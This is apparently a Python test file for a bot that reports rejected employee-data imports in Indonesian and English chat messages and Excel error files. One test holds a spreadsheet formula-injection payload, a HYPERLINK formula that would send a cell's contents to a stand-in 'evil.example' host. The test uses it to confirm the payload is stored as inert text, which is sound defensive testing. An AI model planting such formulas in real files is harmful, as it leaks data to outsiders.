"""What the admin reads of a rejected import: one chat message at most (the rest in
a file), and a file whose cells are text, never formulas. Pure: no database."""

from __future__ import annotations

import html
import io
import zipfile

from openpyxl import load_workbook

from bot.imports.format import CHAT_LINES, chat_rejection, chat_summary, format_rejection
from bot.imports.report import errors_file_name, errors_workbook
from bot.imports.types import ImportSummary, RowError


def not_one_of(row: int, value: str) -> RowError:
    return RowError(row, "Status", "import.not_one_of", {"value": value, "expected": "PNS, PPPK"})


def test_a_few_errors_are_all_listed_in_one_escaped_message() -> None:
    text, complete = chat_rejection([not_one_of(2, "<b>Honorer</b>")], 1, "id")

    assert complete
    assert text.splitlines()[1] == (
        'Baris 2, kolom Status: "&lt;b&gt;Honorer&lt;/b&gt;" tidak dikenal; '
        "pilih salah satu: PNS, PPPK."
    )


def test_many_errors_are_cut_at_50_lines_and_counted_with_babel() -> None:
    errors = [not_one_of(row, "Honorer") for row in range(2, 12_002)]

    text, complete = chat_rejection(errors, 12_000, "id")

    lines = text.splitlines()
    assert not complete
    assert lines[0].startswith("File ditolak: 12.000 kesalahan")
    assert len([line for line in lines if line.startswith("Baris ")]) == CHAT_LINES
    assert lines[-2:] == [
        "... dan 11.950 lainnya.",
        "Daftar lengkapnya ada di file terlampir.",
    ]


def test_long_error_lines_are_cut_to_fit_one_message() -> None:
    errors = [
        RowError(row, "Pendaftaran Ditutup", "import.bad_datetime", {"value": "&" * 41})
        for row in range(2, 62)
    ]

    text, complete = chat_rejection(errors, len(errors), "en")

    assert not complete
    assert len(html.unescape(text)) <= 4096 < len(text)  # Telegram counts the parsed text
    assert text.splitlines()[-1] == "The full list is in the attached file."


def test_a_summary_with_many_warnings_lists_50_and_counts_with_babel() -> None:
    warnings = [RowError(row, "NIP", "nip.sequence_zero") for row in range(2, 1502)]
    summary = ImportSummary("employees", 1500, 1500, 0, warnings)

    text, complete = chat_summary(summary, "id")

    lines = text.splitlines()
    assert not complete
    assert lines[0] == (
        "Impor pegawai selesai: 1.500 baris dibaca, 1.500 baru, 0 diperbarui, 0 tidak berubah."
    )
    assert lines[1] == "1.500 peringatan (baris tetap diimpor, mohon diperiksa):"
    assert len([line for line in lines if line.startswith("Baris ")]) == CHAT_LINES
    assert lines[-2] == "... dan 1.450 lainnya."


def test_the_error_file_holds_text_never_a_formula() -> None:
    formula = '=HYPERLINK("https://evil.example/?d="&B4,"Budi")'
    errors = [
        RowError(2, "Kapasitas", "import.out_of_range", {"value": formula, "min": 1, "max": 9}),
        not_one_of(3, "+62"),
    ]

    data = errors_workbook(errors, 5, "id")

    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["Baris", "Kolom", "Keterangan"],
        [2, "Kapasitas", f"{formula} di luar batas (1 sampai 9)."],
        [3, "Status", '"+62" tidak dikenal; pilih salah satu: PNS, PPPK.'],
        [None, None, "... dan 3 lainnya."],
    ]
    assert sheet["C2"].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_the_error_file_is_named_after_the_admins_file() -> None:
    assert errors_file_name("pegawai gresik.xlsx", "id") == "pegawai gresik-kesalahan.xlsx"
    assert errors_file_name("data.csv", "en") == "data-errors.xlsx"


def test_the_cli_lists_every_error() -> None:
    errors = [not_one_of(row, "Honorer") for row in range(2, 102)]

    text = format_rejection(errors, "id", total=150)

    assert len(text.splitlines()) == 1 + 100 + 1
    assert text.splitlines()[-1] == "... dan 50 lainnya."
